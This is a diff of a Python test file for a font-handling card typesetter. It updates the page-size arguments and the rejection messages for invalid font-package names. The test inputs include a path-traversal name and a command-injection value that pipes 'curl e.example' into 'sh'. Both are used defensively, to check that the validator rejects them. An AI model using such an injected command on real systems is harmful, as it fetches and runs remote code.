@@ -138,8 +138,8 @@ def test_printed_in_a_package(script: str, tmp_path: Path) -> None:
     found = checked(content(tmp_path, TITLES[script], NOTO, steps=[TITLES[script] + " " + "Stand."]))
     assert found.problems == ()
     assert found.typesetter
-    for sheet in (typeset.A4, typeset.LETTER, replace(typeset.A4, large=True)):
-        pdf = found.typesetter.pdf(found.cards[0].card, sheet)
+    for kind in typeset.USUAL:
+        pdf = found.typesetter.pdf(found.cards[0].card, kind)
         assert "".join(card_corpus.sheets(pdf)).count(bare(TITLES[script])) >= 2
         assert list(unknown_glyphs(pdf)) == []
 
@@ -151,7 +151,7 @@ def test_boxes_would_be_seen(tmp_path: Path) -> None:
     told = found.cards[0].card
     forced = replace(told, title="膝")
     try:
-        pdf = found.typesetter.pdf(forced, typeset.A4)
+        pdf = found.typesetter.pdf(forced, typeset.Kind(typeset.A4))
     except fonts_refused():
         return  # Typst itself refuses such text in PDF/UA
     assert list(unknown_glyphs(pdf))
@@ -171,7 +171,7 @@ def test_font_file_of_the_content(tmp_path: Path) -> None:
     found = checked(made)
     assert not has_errors(found.problems)
     assert found.typesetter
-    pdf = found.typesetter.pdf(found.cards[0].card, typeset.A4)
+    pdf = found.typesetter.pdf(found.cards[0].card, typeset.Kind(typeset.A4))
     assert bare(TITLES["Greek"]) in card_corpus.sheets(pdf)[0]
     assert list(unknown_glyphs(pdf)) == []
 
@@ -191,7 +191,7 @@ def test_family_of_a_font_file(name: str, tmp_path: Path) -> None:
     found = checked(made)
     assert not has_errors(found.problems)
     assert found.typesetter
-    pdf = found.typesetter.pdf(found.cards[0].card, typeset.A4)
+    pdf = found.typesetter.pdf(found.cards[0].card, typeset.Kind(typeset.A4))
     assert bare(TITLES["Cyrillic"]) in card_corpus.sheets(pdf)[0]
     assert list(unknown_glyphs(pdf)) == []
 
@@ -216,12 +216,15 @@ def with_torn_characters(font: bytes) -> bytes:
         ("empty.otf", '"empty.otf" cannot be read as a font'),
         ("exercises/squat.md", '"exercises/squat.md" cannot be read as a font'),
         ("exercises", 'there is no font file "exercises" in the content folder'),
-        ("fontpkg-", '"fontpkg-" is no name of a font package'),
-        ("fontpkg-../../os", '"fontpkg-../../os" is no name of a font package'),
-        ("fontpkg-noto-sans.files", '"fontpkg-noto-sans.files" is no name of a font package'),
-        ("fontpkg-noto_sans", '"fontpkg-noto_sans" is no name of a font package'),
+        ("fontpkg-", '"fontpkg-" is not a valid font package name'),
+        ("fontpkg-../../os", '"fontpkg-../../os" is not a valid font package name'),
+        ("fontpkg-noto-sans.files", '"fontpkg-noto-sans.files" is not a valid font package name'),
+        ("fontpkg-noto_sans", '"fontpkg-noto_sans" is not a valid font package name'),
         ("torn.ttf", '"torn.ttf" cannot be read as a font'),
-        ("fontpkg-x; curl e.example | sh", '"fontpkg-x; curl e.example | sh" is no name of a font package'),
+        (
+            "fontpkg-x; curl e.example | sh",
+            '"fontpkg-x; curl e.example | sh" is not a valid font package name',
+        ),
         ("a" * 300 + ".ttf", "there is no font file"),
     ],
 )
